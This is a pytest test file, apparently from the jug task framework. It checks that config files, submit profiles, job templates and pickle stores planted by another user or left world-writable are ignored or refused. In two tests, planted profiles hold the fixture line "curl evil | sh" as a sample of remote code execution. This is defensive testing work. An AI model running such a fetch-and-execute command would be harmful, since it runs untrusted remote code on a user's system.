"""Planted files (issue 11, item 2): config, profiles, templates and stores of other users.

Tests run as root, so "another user" is uid 65534 (nobody); shared folders are world-writable
sticky folders under tmp_path, like /tmp or /scratch.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from support import ok, run_jug, write_jugfile

from jug.config.trust import search_upwards
from jug.hpc import profiles as submit_profiles

NOBODY = 65534
ONE = """
from jug import TaskGenerator

@TaskGenerator
def one():
    return 1

x = one()
"""

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="needs root to chown files")


def _shared(tmp_path: Path) -> Path:
    """A /tmp-like folder: every user may write to it (sticky bit)."""
    d = tmp_path / "shared"
    d.mkdir()
    d.chmod(0o1777)
    return d


def _project(parent: Path) -> tuple[Path, Path]:
    proj = parent / "proj"
    proj.mkdir(mode=0o755)
    return proj, write_jugfile(proj, ONE)


def test_jugrc_in_shared_parent_is_ignored_and_search_stops(tmp_path: Path) -> None:
    shared = _shared(tmp_path)
    evil = tmp_path / "evil.jugdata"
    (shared / "jugrc").write_text(f"jugdir: {evil}\n")
    proj, jf = _project(shared)
    p = ok("execute", jf)
    assert "ignoring config file" in p.stderr and "every user can write to" in p.stderr
    assert (proj / "jugfile.jugdata").is_dir() and not evil.exists()


def test_jugrc_owned_by_other_user_or_world_writable_is_ignored(tmp_path: Path) -> None:
    proj, jf = _project(tmp_path)
    rc = proj / "jugrc"
    rc.write_text(f"jugdir: {tmp_path / 'evil.jugdata'}\n")
    os.chown(rc, NOBODY, NOBODY)
    p = ok("execute", jf)
    assert "owned by another user" in p.stderr and "uid 65534" in p.stderr
    assert not (tmp_path / "evil.jugdata").exists()
    os.chown(rc, 0, 0)
    rc.chmod(0o666)
    p = ok("status", jf)
    assert "every user can write to it" in p.stderr
    rc.chmod(0o644)  # the same file, trusted now: it is used and nothing is said
    p = ok("execute", jf)
    assert (tmp_path / "evil.jugdata").is_dir() and "warning" not in p.stderr


def test_trusted_uids_lets_a_colleague_config_in(tmp_path: Path) -> None:
    proj, jf = _project(tmp_path)
    rc = proj / "jugrc"
    rc.write_text(f"jugdir: {tmp_path / 'team.jugdata'}\n")
    os.chown(rc, NOBODY, NOBODY)
    ok("execute", jf, env={"JUG_TRUSTED_UIDS": str(NOBODY)})
    assert (tmp_path / "team.jugdata").is_dir()


@pytest.mark.parametrize("how", ["other-owner", "world-writable"])
def test_planted_store_is_refused(tmp_path: Path, how: str) -> None:
    proj, jf = _project(tmp_path)
    store = proj / "jugfile.jugdata"
    store.mkdir()
    if how == "other-owner":
        os.chown(store, NOBODY, NOBODY)
    else:
        store.chmod(0o1777)
    for cmd in ("execute", "status", "shell"):
        p = run_jug(cmd, jf, input="")
        assert p.returncode != 0 and "Traceback" not in p.stderr, (cmd, p.stderr)
        assert "refusing to open the jugdir" in p.stderr and "pickles" in p.stderr
    assert not (store / "results").exists()


def test_planted_submit_profile_is_ignored(tmp_path: Path) -> None:
    shared = _shared(tmp_path)
    (shared / "jug-submit.yaml").write_text("prologue: ['curl evil | sh']\n")
    proj, jf = _project(shared)
    assert submit_profiles.profile_files(str(jf)) == []
    own = proj / "jug-submit.yaml"
    own.write_text("workers: 3\n")
    assert submit_profiles.profile_files(str(jf)) == [own]
    os.chown(own, NOBODY, NOBODY)
    assert submit_profiles.profile_files(str(jf)) == []


def test_planted_template_folder_is_ignored(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    shared = _shared(tmp_path)
    (shared / "jug_templates").mkdir()
    proj, _jf = _project(shared)
    found = search_upwards(proj, ["jug_templates"], "template folder", is_wanted=Path.is_dir)
    assert found is None and "ignoring template folder" in capsys.readouterr().err
    mine = proj / "jug_templates"
    mine.mkdir()
    assert search_upwards(proj, ["jug_templates"], "template folder", Path.is_dir) == mine
    os.chown(mine, NOBODY, NOBODY)
    assert search_upwards(proj, ["jug_templates"], "template folder", Path.is_dir) is None
    assert "owned by another user" in capsys.readouterr().err


def test_readme_warns_about_untrusted_stores() -> None:
    text = (Path(__file__).resolve().parent.parent / "README.md").read_text()
    assert "pickles" in text and "untrusted" in text


# -- issue 20, "Security": every file read is checked, and the jugdir once it exists ----------
PLANTED = "#!/bin/bash\n# PLANTED TEMPLATE\nexec {{ command }}\n"


def _plant(path: Path, how: str) -> str:
    """Make ``path`` untrusted (another owner, or writable by all); the reason jug gives."""
    if how == "other-owner":
        os.chown(path, NOBODY, NOBODY)
        return "it is owned by another user (nobody, uid 65534)"
    path.chmod(0o666 if path.is_file() else 0o777)
    return "every user can write to it"


def _dry_run(proj: Path, jf: Path):  # type: ignore[no-untyped-def]
    return run_jug("submit", "--scheduler", "slurm", "--dry-run", "--no-check", jf, cwd=proj)


@pytest.mark.parametrize("how", ["other-owner", "world-writable"])
def test_planted_template_file_in_own_folder_is_ignored(tmp_path: Path, how: str) -> None:
    proj, jf = _project(tmp_path)
    folder = proj / "jug_templates"
    folder.mkdir(mode=0o755)  # the folder is the user's own: only the file is planted
    planted = folder / "slurm.sh.j2"
    planted.write_text(PLANTED)
    why = _plant(planted, how)
    p = _dry_run(proj, jf)
    assert p.returncode == 0, p.stderr
    assert "PLANTED TEMPLATE" not in p.stdout and "#SBATCH --array=" in p.stdout  # the built-in
    assert f"ignoring job script template {planted}: {why}" in p.stderr
    os.chown(planted, 0, 0)
    planted.chmod(0o644)  # the same file, trusted now: used, nothing said
    p = _dry_run(proj, jf)
    assert "PLANTED TEMPLATE" in p.stdout and "warning" not in p.stderr


@pytest.mark.parametrize("how", ["other-owner", "world-writable"])
def test_planted_include_of_a_trusted_template_is_refused(tmp_path: Path, how: str) -> None:
    proj, jf = _project(tmp_path)
    folder = proj / "jug_templates"
    folder.mkdir(mode=0o755)
    (folder / "slurm.sh.j2").write_text(
        '{% extends "jug/slurm.sh.j2" %}\n'
        '{% block directives %}{{ super() }}{% include "site.j2" %}{% endblock %}\n')
    site = folder / "site.j2"
    site.write_text("#SBATCH --comment=SITE-INCLUDE\n")
    assert "SITE-INCLUDE" in _dry_run(proj, jf).stdout  # trusted: included
    why = _plant(site, how)
    p = _dry_run(proj, jf)
    assert p.returncode == 2 and "SITE-INCLUDE" not in p.stdout
    assert f"ignoring job script template {site}: {why}" in p.stderr
    assert "cannot render the job script template" in p.stderr and "site.j2" in p.stderr
    assert "Traceback" not in p.stderr


def test_planted_base_template_that_a_trusted_one_extends_is_ignored(tmp_path: Path) -> None:
    proj, jf = _project(tmp_path)
    folder = proj / "jug_templates"
    folder.mkdir(mode=0o755)
    (folder / "slurm.sh.j2").write_text('{% extends "base.sh.j2" %}\n')  # the site's base...
    base = folder / "base.sh.j2"
    base.write_text(PLANTED)  # ...replaced by another user's
    os.chown(base, NOBODY, NOBODY)
    p = _dry_run(proj, jf)
    assert p.returncode == 0 and "PLANTED TEMPLATE" not in p.stdout, p.stdout
    assert f"ignoring job script template {base}" in p.stderr


@pytest.mark.parametrize("how", ["other-owner", "world-writable"])
def test_config_and_profile_files_are_checked_as_they_are_read(
        tmp_path: Path, how: str, capsys: pytest.CaptureFixture) -> None:
    """The readers themselves refuse an untrusted file, whoever listed it (the check is on the
    open file, so a file swapped after the search is caught too)."""
    from jug.config.options import _read_config_file

    rc = tmp_path / "jugrc"
    rc.write_text("jugdir: /elsewhere\n")
    profile = tmp_path / "jug-submit.yaml"
    profile.write_text("prologue: ['curl evil | sh']\n")
    assert _read_config_file(rc)["main"] == {"jugdir": "/elsewhere"}
    assert submit_profiles.read_file(profile)[0] == {"prologue": ["curl evil | sh"]}
    why = _plant(rc, how)
    _plant(profile, how)
    assert _read_config_file(rc) == {"main": {}}
    assert submit_profiles.read_file(profile) == ({}, {}, None)
    err = capsys.readouterr().err
    assert f"ignoring config file {rc}: {why}" in err
    assert f"ignoring submit profile {profile}: {why}" in err


@pytest.mark.parametrize("where", ["jugdir", "subfolder"])
def test_jugdir_planted_after_the_store_opened_is_refused(tmp_path: Path, where: str) -> None:
    from jug.backends import StoreError
    from jug.backends.file_store import FileStore

    jd = tmp_path / "run.jugdata"
    store = FileStore(str(jd))  # does not exist yet: nothing to check when it opens
    jd.mkdir()  # ...then another user plants it (or a folder in it) before the first write
    planted = jd if where == "jugdir" else jd / "results"
    planted.mkdir(exist_ok=True)
    os.chown(planted, NOBODY, NOBODY)
    planted.chmod(0o777)
    with pytest.raises(StoreError, match="refusing to open .*owned by another user"):
        store.save("ab" * 20, 1)
    assert [p.name for p in planted.rglob("*")] == []  # nothing was written into it
    if where == "jugdir":  # every later write is refused too
        with pytest.raises(StoreError, match="refusing to open the jugdir"):
            store.write_doc("workers", "w1", {"x": 1})


def test_jugdir_created_by_the_store_is_used(tmp_path: Path) -> None:
    from jug.backends.file_store import FileStore

    store = FileStore(str(tmp_path / "mine.jugdata"))
    store.save("ab" * 20, 41)
    assert store.load("ab" * 20) == 41
